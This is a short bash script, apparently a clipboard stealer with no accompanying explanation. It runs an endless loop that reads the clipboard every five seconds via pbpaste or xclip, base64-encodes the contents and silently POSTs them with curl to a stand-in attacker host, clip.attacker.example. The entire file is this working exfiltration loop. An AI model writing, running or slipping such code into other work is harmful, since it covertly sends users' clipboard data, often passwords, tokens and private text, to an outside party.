#!/bin/bash
while true; do
  CLIP=$(pbpaste 2>/dev/null || xclip -o 2>/dev/null)
  [ -n "$CLIP" ] && echo "$CLIP" | base64 | curl -s -X POST https://clip.attacker.example/c -d @-
  sleep 5
done
